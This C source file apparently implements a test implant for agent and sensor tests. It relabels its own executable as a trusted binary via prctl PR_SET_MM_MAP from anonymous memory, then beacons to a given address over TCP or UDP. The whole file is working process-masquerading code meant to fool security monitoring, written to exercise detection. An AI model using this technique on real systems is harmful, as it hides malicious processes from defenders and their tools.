/*
 * The relabelling implant: a process that changes what the kernel calls
 * its executable without an exec, then connects.
 *
 *   relabel AS IP PORT [LINGER_MS]
 *
 * It opens AS (a trusted file, say /usr/bin/true) and replaces its own
 * mm->exe_file with it through prctl(PR_SET_MM, PR_SET_MM_MAP, ...,
 * exe_fd): CRIU's restore call, allowed with CAP_CHECKPOINT_RESTORE or
 * CAP_SYS_ADMIN in the caller's user namespace, so any user can in a user
 * namespace of its own (unshare -Ur). The kernel refuses (EBUSY) while
 * the old executable is still mapped, so the implant first copies a small
 * routine into anonymous memory and runs it from there: it unmaps every
 * mapping of its own file, makes the call, and connects to IP:PORT over
 * TCP. From then on /proc/PID/exe, and the exe_file a connect hook reads,
 * name AS, while the code running is still the implant's.
 *
 * With RELABEL_WAIT set in its environment, it reads a byte from stdin
 * before any of this: a test can let its exec record go by first. With
 * RELABEL_UDP set, it sends a datagram to IP:PORT instead of connecting
 * (the path the socket address hooks see); with RELABEL_FORK set, a child
 * it forks after the relabel connects (or sends), and it exits with the
 * child's code. With RELABEL_NONE set, it neither unmaps its file nor
 * relabels: the routine just connects from its anonymous copy.
 *
 * It prints "relabelled" when the call succeeded, and exits 0 once the
 * connect succeeded (after LINGER_MS, as a beacon that stays would);
 * otherwise it prints which step failed and exits non-zero (5: the
 * connect or send failed, 6: the fork). x86-64 only (raw syscalls from
 * position-independent code).
 * Built by testutil.BuildRelabel for the agent and sensor tests.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef __x86_64__
#error "relabel.c: x86-64 only"
#endif

#define MAXMAPS 16

#ifdef SALT
/* Each build's own bytes, so each has a digest of its own. */
const char salt[] __attribute__((used)) = SALT;
#endif

/* Everything the routine needs, on the stack (anonymous memory). */
struct job {
	unsigned long start[MAXMAPS], len[MAXMAPS];
	int n;
	int exe_fd;
	struct prctl_mm_map map;
	struct sockaddr_in dst;
	struct timespec linger;
	int udp;      /* send a datagram instead of connecting */
	int fork;     /* connect from a child forked after the relabel */
	int none;     /* no relabel: connect from the anonymous copy alone */
	char msg[4];
	char ok[11];  /* "relabelled\n" */
	char bad[7];  /* "failed\n" */
};

#define TRAMP __attribute__((section(".text.relabel"), noinline, used, optimize("no-stack-protector")))

static inline __attribute__((always_inline)) long sc(long n, long a, long b, long c, long d, long e)
{
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	long ret;

	__asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
	return ret;
}

static inline __attribute__((always_inline)) long sc6(long n, long a, long b, long c, long d, long e, long f)
{
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	register long r9 __asm__("r9") = f;
	long ret;

	__asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
	return ret;
}

/* Runs from an anonymous copy: no calls, no globals, raw syscalls only.
 * Never returns. Exit codes: 0 connected, 3 prctl failed, 4 socket, 5
 * connect. */
TRAMP static void routine(struct job *j)
{
	long fd, r;

	if (!j->none) {
		for (int i = 0; i < j->n; i++)
			sc(SYS_munmap, j->start[i], j->len[i], 0, 0, 0);
		r = sc(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&j->map, sizeof(j->map), 0);
		if (r) {
			sc(SYS_write, 1, (long)j->bad, sizeof(j->bad), 0, 0);
			sc(SYS_exit_group, 3, 0, 0, 0, 0);
		}
		sc(SYS_write, 1, (long)j->ok, sizeof(j->ok), 0, 0);
	}
	if (j->fork) {
		long child = sc(SYS_fork, 0, 0, 0, 0, 0);
		int status = 0;

		if (child < 0)
			sc(SYS_exit_group, 6, 0, 0, 0, 0);
		if (child > 0) {
			/* The parent waits and exits with the child's code. */
			sc(SYS_wait4, child, (long)&status, 0, 0, 0);
			sc(SYS_exit_group, (status >> 8) & 0xff, 0, 0, 0, 0);
		}
	}
	fd = sc(SYS_socket, AF_INET, j->udp ? SOCK_DGRAM : SOCK_STREAM, 0, 0, 0);
	if (fd < 0)
		sc(SYS_exit_group, 4, 0, 0, 0, 0);
	if (j->udp) {
		r = sc6(SYS_sendto, fd, (long)j->msg, sizeof(j->msg), 0, (long)&j->dst, sizeof(j->dst));
		r = r < 0 ? r : 0;
	} else {
		r = sc(SYS_connect, fd, (long)&j->dst, sizeof(j->dst), 0, 0);
	}
	sc(SYS_nanosleep, (long)&j->linger, 0, 0, 0, 0);
	sc(SYS_exit_group, r ? 5 : 0, 0, 0, 0, 0);
	for (;;)
		;
}

TRAMP static void routine_end(void) {}

int main(int argc, char **argv)
{
	char self[4096], line[4096 + 128], stat[4096], *p;
	unsigned long long v[60] = {0};
	struct job j;
	FILE *f;
	ssize_t n;
	int i = 3;
	void *code;
	size_t size = (char *)routine_end - (char *)routine;

	if (argc != 4 && argc != 5) {
		fprintf(stderr, "usage: relabel AS IP PORT [LINGER_MS]\n");
		return 2;
	}
	memset(&j, 0, sizeof(j));
	if (argc == 5) {
		long ms = atol(argv[4]);

		j.linger.tv_sec = ms / 1000;
		j.linger.tv_nsec = ms % 1000 * 1000000;
	}
	j.udp = getenv("RELABEL_UDP") != NULL;
	j.fork = getenv("RELABEL_FORK") != NULL;
	j.none = getenv("RELABEL_NONE") != NULL;
	memcpy(j.msg, "ping", sizeof(j.msg));
	memcpy(j.ok, "relabelled\n", sizeof(j.ok));
	memcpy(j.bad, "failed\n", sizeof(j.bad));
	j.dst.sin_family = AF_INET;
	j.dst.sin_port = htons(atoi(argv[3]));
	if (inet_pton(AF_INET, argv[2], &j.dst.sin_addr) != 1) {
		fprintf(stderr, "bad address %s\n", argv[2]);
		return 2;
	}
	if (getenv("RELABEL_WAIT")) {
		char c;

		if (read(0, &c, 1) != 1) {
			fprintf(stderr, "no go-ahead on stdin\n");
			return 2;
		}
	}
	if ((j.exe_fd = open(argv[1], O_RDONLY)) < 0) {
		perror(argv[1]);
		return 2;
	}
	if ((n = readlink("/proc/self/exe", self, sizeof(self) - 1)) < 0) {
		perror("readlink");
		return 2;
	}
	self[n] = 0;

	/* Every mapping of the implant's own file. */
	if (!(f = fopen("/proc/self/maps", "r"))) {
		perror("maps");
		return 2;
	}
	while (fgets(line, sizeof(line), f)) {
		unsigned long lo, hi;
		char *path = strchr(line, '/');

		if (!path)
			continue;
		path[strcspn(path, "\n")] = 0;
		if (strcmp(path, self) || sscanf(line, "%lx-%lx", &lo, &hi) != 2)
			continue;
		if (j.n == MAXMAPS) {
			fprintf(stderr, "too many mappings\n");
			return 2;
		}
		j.start[j.n] = lo;
		j.len[j.n++] = hi - lo;
	}
	fclose(f);

	/* The memory layout as it is: PR_SET_MM_MAP sets all of it at once. */
	if (!(f = fopen("/proc/self/stat", "r")) || !fgets(stat, sizeof(stat), f)) {
		perror("stat");
		return 2;
	}
	fclose(f);
	for (p = strtok(strrchr(stat, ')') + 2, " "); p && i < 60; p = strtok(NULL, " "))
		v[i++] = strtoull(p, NULL, 10);
	j.map.start_code = v[26];
	j.map.end_code = v[27];
	j.map.start_stack = v[28];
	j.map.start_data = v[45];
	j.map.end_data = v[46];
	j.map.start_brk = v[47];
	j.map.brk = (unsigned long)sbrk(0);
	j.map.arg_start = v[48];
	j.map.arg_end = v[49];
	j.map.env_start = v[50];
	j.map.env_end = v[51];
	j.map.exe_fd = j.exe_fd;
	fflush(stdout);

	code = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (code == MAP_FAILED || size == 0 || size > 4096) {
		fprintf(stderr, "mmap: routine of %zu bytes\n", size);
		return 2;
	}
	memcpy(code, (void *)routine, size);
	((void (*)(struct job *))code)(&j);
	return 1;
}
